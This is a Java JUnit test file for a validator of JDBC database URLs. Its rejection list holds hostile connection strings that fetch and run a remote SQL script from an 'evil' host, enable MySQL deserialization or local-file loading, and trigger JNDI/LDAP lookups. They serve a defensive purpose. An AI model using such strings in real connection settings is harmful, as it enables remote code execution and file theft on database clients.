package org.qiantang.collect.internal.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.qiantang.collect.CollectProblem;
import org.qiantang.core.Problem;

/** An address says where a database is and nothing that its driver could be made to do. */
class DatabaseLocationTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://h:3306/db",
                "jdbc:mariadb://h1:3306,h2:3306/db?sslMode=verify-full&connectTimeout=5000",
                "jdbc:oracle:thin:@//h:1521/service",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=s)))",
                "jdbc:sqlserver://h:1433;databaseName=hr;encrypt=true;trustServerCertificate=false",
                "jdbc:dm://h:5236?schema=HR",
                "jdbc:kingbase8://h:54321/hr?currentSchema=public",
                "jdbc:h2:tcp://h/~/hr;MODE=Oracle",
                "jdbc:h2:/srv/exchange/hr",
                "jdbc:sqlite:/srv/exchange/a.db?mode=ro",
                "jdbc:unheard-of:anything",
            })
    void whatPeopleWriteIsTaken(String url) {
        assertThat(DatabaseLocation.of(" " + url + " ").url()).isEqualTo(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:tcp://h/db;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:tcp://h/db;init=x",
                "jdbc:h2:/srv/db;MODE=MySQL\\;INIT=x",
                "jdbc:mysql://h/db?autoDeserialize=true",
                "jdbc:mysql://h/db?%61utoDeserialize=true",
                "jdbc:mysql://h/db?ssl=true&allowLoadLocalInfile=true",
                "jdbc:mariadb://h/db?socketFactory=x.Y",
                "jdbc:db2://h:50000/db:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:mysql://(host=h,autoDeserialize=true)/db",
                "jdbc:mysql:address=(host=h)(autoDeserialize=true)/db",
                "jdbc:oracle:thin:@ldap://evil:389/cn",
                "jdbc:derby:/srv/db;create=true",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:relative.db",
                "jdbc:sqlite::memory:",
                "jdbc:h2:mem:x",
                "jdbc:h2:~/x",
                "jdbc:h2:zip:/srv/x.zip!/x",
                "jdbc:hsqldb:res:x",
                "jdbc:duckdb:x.db",
                "jdbc:",
                "mysql://h/db",
            })
    void whatDriversCouldBeMadeToDoIsRefused(String url) {
        assertThatThrownBy(() -> DatabaseLocation.of(url))
                .isInstanceOfSatisfying(
                        Problem.class,
                        problem -> assertThat(problem.code())
                                .isIn(CollectProblem.BAD_DATABASE_LOCATION, CollectProblem.BAD_LOCATION_PARAMETER));
    }

    @Test
    void fileOfThisMachineIsKnownAsOne() {
        assertThat(DatabaseLocation.of("jdbc:sqlite:/srv/a.db?mode=ro").file()).contains(Path.of("/srv/a.db"));
        assertThat(DatabaseLocation.of("jdbc:sqlite:file:/srv/a.db").file()).contains(Path.of("/srv/a.db"));
        assertThat(DatabaseLocation.of("jdbc:h2:file:/srv/a;CIPHER=AES").file()).contains(Path.of("/srv/a"));
        assertThat(DatabaseLocation.of("jdbc:unheard-of:/srv/a").file()).contains(Path.of("/srv/a"));
        assertThat(DatabaseLocation.of("jdbc:mysql://h/srv").file()).isEmpty();
        assertThat(DatabaseLocation.of("jdbc:h2:tcp://h/srv/a").file()).isEmpty();
    }

    @Test
    void settingsAreReadAndNonsenseIsRefused() {
        DatabaseSettings settings = DatabaseSettings.of(Map.of("maxConnections", " 4 ", "schemas", "a, 市 局,,b"));

        assertThat(settings.maxConnections()).hasValue(4);
        assertThat(settings.schemas()).containsExactlyInAnyOrder("a", "市 局", "b");
        assertThat(DatabaseSettings.of(Map.of()).maxConnections()).isEmpty();
        for (String wrong : new String[] {"0", "65", "-1", "many", "1e3", "99999999999"}) {
            assertThatThrownBy(() -> DatabaseSettings.of(Map.of("maxConnections", wrong)))
                    .isInstanceOfSatisfying(
                            Problem.class, problem -> assertThat(problem.code()).isEqualTo(CollectProblem.BAD_SETTING));
        }
    }
}
